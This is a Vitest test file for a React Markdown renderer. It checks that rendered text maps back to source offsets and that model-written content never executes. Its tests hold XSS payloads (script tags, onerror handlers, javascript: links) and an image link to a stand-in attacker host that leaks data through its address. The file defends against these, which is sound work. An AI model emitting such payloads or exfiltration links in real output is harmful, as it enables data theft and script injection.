// Owns the proof that what is drawn is plain text with places, that tokens are found in it, and that nothing a model writes runs or loads.
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { Markdown } from '../../renderer/markdown/Markdown.js';
import { useView } from '../../renderer/store.js';

let host: HTMLDivElement;
let root: ReturnType<typeof createRoot>;
(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

beforeEach(() => {
  host = document.createElement('div');
  document.body.append(host);
  root = createRoot(host);
});
afterEach(() => {
  act(() => root.unmount());
  host.remove();
});
const show = (text: string, growing = false): void => act(() => root.render(<Markdown text={text} growing={growing} />));

/** Every placed piece of text as it stands on the screen, and what stands at its place in the source. */
function placed(text: string): { shown: string; source: string }[] {
  return [...host.querySelectorAll('[data-o]')].map((span) => {
    const start = Number(span.closest('[data-b]')?.getAttribute('data-b')) + Number(span.getAttribute('data-o'));
    const shown = span.textContent ?? '';
    return { shown, source: text.slice(start, start + shown.length) };
  });
}

describe('places of text', () => {
  it.each([
    'Plain words here.', 'Some **bold**, *thin* and `code` words.', '# Title with *marks*\n\nText.', '- one\n- two **b**\n  - deep\n\n  para', '> quoted **text**\n> second line',
    '| a | **b** |\n| - | - |\n| c d | e |', 'a [link](https://a.org) a a', 'same same **same** same', '1. one\n   more of one\n2. two', 'two  \nlines', 'Tom &amp; Jerry &lt;3', 'price \\$5 \\* star',
    'cup cup [cup](https://cup.org/cup) cup', 'formula $x$ then x', 'https://example.org auto', 'ein Satz mit 🙂 und é',
  ])('are those in the source of %j', (text) => {
    show(text);
    const pieces = placed(text).filter(({ shown }) => !/[&<]/.test(shown));
    expect(pieces.length).toBeGreaterThan(0);
    for (const { shown, source } of pieces) expect(source).toBe(shown);
  });

  it('put the text after a link behind its address, not into it', () => {
    const text = '[x](https://a.org) a';
    show(text);
    const last = [...host.querySelectorAll('[data-o]')].at(-1);
    expect(Number(last?.getAttribute('data-o'))).toBe(text.length - 2);
  });

  it('rise through the whole text', () => {
    show('One **two** three\n\n- four\n- five `six`\n\n> seven');
    const starts = [...host.querySelectorAll('[data-o]')].map((span) => Number(span.closest('[data-b]')?.getAttribute('data-b')) + Number(span.getAttribute('data-o')));
    expect(starts).toEqual(starts.toSorted((a, b) => a - b));
  });
});

describe('what a model writes', () => {
  it('never becomes an element by itself', () => {
    show('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="https://a.org"></iframe> <b onclick=x>bold</b>\n\n<div><style>*{}</style></div>');
    expect([host.querySelector('script, img, iframe, style, [onclick], [onerror]'), host.textContent?.includes('<script>alert(1)</script>')]).toEqual([null, true]);
  });
  it('loads no picture: its address is shown instead', () => {
    show('![secret](https://evil.example/p.png?leak=1)');
    expect([host.querySelector('img'), host.querySelector('.picture')?.textContent]).toEqual([null, 'Picture not loaded: secret https://evil.example/p.png?leak=1']);
  });
  it('opens a link only after the address was shown', () => {
    show('[click](https://example.org/x)');
    const link = host.querySelector('a')!;
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    act(() => void link.dispatchEvent(event));
    expect([event.defaultPrevented, useView.getState().link, link.rel, link.target]).toEqual([true, 'https://example.org/x', 'noreferrer noopener', '_blank']);
  });
  it('gets no link for an address that could run', () => {
    show('[a](javascript:alert(1)) [b](data:text/html,x) <javascript:alert(1)>');
    expect(host.querySelector('a')).toBeNull();
  });
  it('keeps a settled block in the page while the last one grows', () => {
    show('First.\n\nSec', true);
    const first = host.querySelector('.block');
    show('First.\n\nSecond and more', true);
    expect([host.querySelector('.block') === first, host.textContent]).toEqual([true, 'First.Second and more']);
  });
});

describe('the sources of the window', () => {
  it('insert no HTML text anywhere', () => {
    const folder = resolve(import.meta.dirname, '../../renderer');
    const guilty = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((path) => /\.tsx?$/.test(path) && /dangerouslySetInnerHTML|innerHTML|insertAdjacentHTML|document\.write/.test(readFileSync(join(folder, path), 'utf8')));
    expect(guilty).toEqual([]);
  });
});
